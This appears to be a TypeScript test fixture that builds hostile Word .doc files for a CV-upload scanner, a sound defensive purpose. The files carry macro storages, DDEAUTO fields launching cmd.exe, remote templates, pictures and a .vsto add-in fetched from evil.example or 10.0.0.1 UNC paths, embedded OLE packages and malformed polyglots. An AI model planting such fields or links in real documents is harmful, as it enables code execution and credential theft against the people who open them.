import { buildCfb, type CfbPart } from './build-cfb.ts';
import { buildDoc, type DocOptions, docField, wordClass, wordStreams } from './build-doc.ts';
import { buildDocx } from './build-docx.ts';
import { buildPdf } from './build-pdf.ts';
import { type HostileCv, heldFiles, program } from './hostile-cv.ts';
import { linkedPicture } from './linked-picture.ts';

const docs = heldFiles('DOC', 'cv.doc', buildDoc);

const classes = {
  equation: '02ce020000000000c000000000000046',
  link: '0003000000000000c000000000000046',
  package: '0c00030000000000c000000000000046',
  flash: '6ebd7cd1ae6dcf11b6c4444553540000',
  sheet: '2008020000000000c000000000000046',
  wordPicture: '0709020000000000c000000000000046',
};

const pooled = (children: readonly CfbPart[], classId = ''): DocOptions => ({
  parts: [{ name: 'ObjectPool', children: [{ name: '_1234567890', classId, children }] }],
});
const linkFlags = (() => {
  const bytes = Buffer.alloc(20);
  bytes.writeUInt32LE(0x02000001, 0);
  bytes.writeUInt32LE(1, 4);
  return bytes;
})();

const properties = (content: Buffer) =>
  buildCfb([...wordStreams(), { name: '\u0005DocumentSummaryInformation', content }], wordClass);

function programs(): HostileCv[] {
  const vba: CfbPart[] = [
    { name: 'VBA', children: [{ name: 'dir' }, { name: '_VBA_PROJECT' }, { name: 'ThisDocument' }] },
  ];
  return [
    ...docs(
      'macros',
      'macro',
      { parts: [{ name: 'Macros', children: vba }] },
      { parts: [{ name: 'MACROS', children: vba }] },
      { parts: [{ name: 'macros', children: [] }] },
      { parts: vba },
      { parts: [{ name: '_VBA_PROJECT_CUR', children: vba }] },
      { parts: [{ name: '_vba_project' }] },
      { parts: [{ name: 'PROJECT' }] },
      pooled([...wordStreams(), { name: 'Macros', children: vba }], wordClass),
    ),
    ...docs(
      'a program that its properties name',
      'macro',
      ...(['latin1', 'utf16le'] as const).map((letters) =>
        properties(Buffer.from('\0\0_AssemblyLocation\0http://evil.example/x.vsto|', letters)),
      ),
      properties(Buffer.from('_ASSEMBLYNAME\0')),
    ),
    ...docs(
      'a picture from elsewhere',
      'fetches',
      ...['\\\\10.0.0.1\\share\\x.png', 'http://evil.example/x.png'].flatMap((address) => [
        { behindTable: linkedPicture(address) },
        { parts: [{ name: 'Data', content: linkedPicture(address, 9) }] },
      ]),
      pooled(wordStreams({ behindTable: linkedPicture('file://evil/x.png') }), classes.wordPicture),
    ),
    ...docs('macros of Word 6', 'oldFormat', buildCfb(wordStreams({ version: 0x65, flags: 1 }), wordClass)),
    ...docs(
      'a template from elsewhere',
      'fetches',
      ...[
        '\\\\10.0.0.1\\share\\x.dotm',
        'http://evil.example/x.dotm',
        'file://evil/x.dot',
        '//evil/x.dot',
      ].map((template) => ({ template })),
      pooled(wordStreams({ template: '\\\\10.0.0.1\\x.dot' }), classes.wordPicture),
    ),
    ...docs(
      'an unknown stream',
      'unknownPart',
      { parts: [{ name: 'Unheard', content: program }] },
      { parts: [{ name: 'Unheard', children: [{ name: 'Of' }] }] },
    ),
  ];
}

function objects(): HostileCv[] {
  const family = 'an object inside';
  const sheet = (type: number, data: number[]) =>
    Buffer.concat([
      Buffer.from([0x09, 0x08, 0, 0]),
      Buffer.from([type & 0xff, type >> 8, data.length, 0, ...data]),
      Buffer.from([0x0a, 0, 0, 0]),
    ]);
  const book = (type: number, data: number[]) =>
    pooled([{ name: 'Workbook', content: sheet(type, data) }], classes.sheet);
  return [
    ...docs(
      family,
      'embeddedObject',
      pooled([{ name: 'Equation Native' }], classes.equation),
      pooled([{ name: 'EQUATION NATIVE' }]),
      pooled([{ name: '\u0001CompObj' }], classes.equation),
      pooled([{ name: '\u0001Ole' }], classes.link),
      pooled([{ name: '\u0001Ole10Native', content: program }], classes.package),
      pooled([{ name: '\u0001oLE10nATIVE', content: program }]),
      pooled([{ name: 'Package', content: buildDocx() }]),
      pooled([{ name: 'CONTENTS', content: program }], classes.flash),
      pooled([{ name: 'PowerPoint Document' }]),
      pooled([{ name: 'Unheard' }]),
      book(0x2f, [0, 0]),
      pooled(
        [
          ...wordStreams(),
          { name: 'ObjectPool', children: [{ name: '_1', classId: classes.equation, children: [] }] },
        ],
        wordClass,
      ),
    ),
    ...docs(
      family,
      'fetches',
      pooled([{ name: '\u0001Ole', content: linkFlags }]),
      pooled([{ name: '\u0001OLE', content: linkFlags }, { name: '\u0003LinkInfo' }]),
      book(0x1ae, [1, 0, 9, 0]),
    ),
    ...docs(
      family,
      'control',
      pooled([{ name: '\u0003OCXNAME' }, { name: 'contents' }]),
      pooled([{ name: '\u0003OCXDATA' }]),
      pooled([{ name: '\u0003ocxName' }]),
      { parts: [{ name: '\u0003OCXNAME' }] },
    ),
    ...docs(
      family,
      'macro',
      book(0x85, [0, 0, 0, 0, 0, 1, 0, 0]),
      book(0x85, [0, 0, 0, 0, 0, 6, 0, 0]),
      pooled([{ name: 'Workbook' }, { name: '_VBA_PROJECT_CUR', children: [] }], classes.sheet),
    ),
    ...docs(
      family,
      'field',
      pooled(wordStreams({ text: docField('DDEAUTO c:\\\\cmd.exe') }), classes.wordPicture),
    ),
    ...docs(
      family,
      'unknownPart',
      { parts: [{ name: '\u0001Ole10Native', content: program }] },
      { parts: [{ name: 'Equation Native' }] },
    ),
  ];
}

function fields(): HostileCv[] {
  const family = 'a field that runs or fetches';
  const nested = '\x13\x13QUOTE 68 68 69\x14DDE\x15AUTO c:\\\\cmd.exe\x14x\x15\r';
  const texts = [
    docField('DDEAUTO c:\\\\Windows\\\\cmd.exe "/k calc"'),
    docField(' DDE cmd "/c calc"'),
    docField('ddeauto c:\\\\cmd.exe'),
    nested,
    '\x13DDEAUTO c:\\\\cmd.exe',
    docField('INCLUDEPICTURE "http://evil.example/x.png" \\d'),
    docField('INCLUDETEXT "\\\\\\\\evil\\\\x.doc"'),
    docField('LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls" a'),
    docField('IMPORT "\\\\\\\\evil\\\\x.png"'),
    docField('MACROBUTTON AutoOpen click'),
    docField('SOMETHINGNEW'),
    docField(' HYPERLINK \x13QUOTE "file://10.0.0.1/x"\x14file://10.0.0.1/x\x15 '),
  ];
  return [
    ...docs(
      family,
      'field',
      ...texts.map((text) => ({ text })),
      ...texts.slice(0, 5).map((text) => ({ text: `السيرة ${text}`, wide: true })),
      { text: docField('DDEAUTO c:\\\\cmd.exe'), pieces: 9 },
      { text: docField('DDEAUTO c:\\\\cmd.exe'), pieces: 9, wide: true },
      buildCfb(wordStreams({ version: 0x65, text: docField('DDEAUTO c:\\\\cmd.exe') }), wordClass),
    ),
    ...['\x14', '\x15', 'PAGE\x14'].flatMap((unlisted) => {
      const text = `\x13${unlisted}DDEAUTO c:\\\\cmd.exe\x14x\x15\r`;
      const separator = text.lastIndexOf('\x14');
      return docs(family, 'field', { text, listed: [0, separator, separator + 2] });
    }),
    ...docs(family, 'control', { text: docField('CONTROL Forms.HTML') }),
    ...docs(
      family,
      'oddLink',
      { text: docField('HYPERLINK "file://10.0.0.1/x"') },
      { text: docField('HYPERLINK "\\\\\\\\10.0.0.1\\\\x"') },
    ),
  ];
}

function crooked(): HostileCv[] {
  const plain = buildDoc();
  const family = 'a crooked file';
  const noText = buildDoc();
  const table = noText.indexOf(Buffer.from([2, 16, 0, 0, 0]));
  noText[table] = 9;
  const otherLimit = buildDoc();
  otherLimit.writeUInt32LE(8192, 56);
  return [
    ...docs(
      family,
      'damaged',
      plain.subarray(0, plain.length / 2),
      plain.subarray(0, 8),
      buildCfb([{ name: 'WordDocument' }], wordClass),
      buildCfb(wordStreams().slice(0, 1), wordClass),
      noText,
      otherLimit,
      Buffer.concat([plain.subarray(0, 512), Buffer.from('%PDF-1.7\n'), plain.subarray(521)]),
    ),
    ...docs(
      family,
      'oldFormat',
      // Word 95 to us, Word 97 to LibreOffice, which then reads another text.
      ...[0x6a, 0x80, 0xbf].map((version) => buildCfb(wordStreams({ version }), wordClass)),
      buildCfb(wordStreams({ version: 0x68, withTable: true }), wordClass),
      Buffer.from('{\\rtf1\\ansi{\\object\\objocx\\objupdate}}'),
      Buffer.from('{\\rt1 x}'),
      Buffer.concat([Buffer.from([0xdb, 0xa5, 0x2d, 0]), Buffer.alloc(500)]),
    ),
    ...docs(family, 'hidden', { parts: [{ name: '1TABLE', content: program }] }),
    ...docs(family, 'mixed', Buffer.concat([plain, buildDocx()]), Buffer.concat([plain, program])),
    ...['cv.docx', 'cv.pdf'].flatMap((name) =>
      docs(family, 'otherType', plain).map((cv) => ({ ...cv, name })),
    ),
    ...docs(family, 'otherType', buildPdf()),
  ];
}

export const hostileDocs = (): HostileCv[] => [...programs(), ...objects(), ...fields(), ...crooked()];
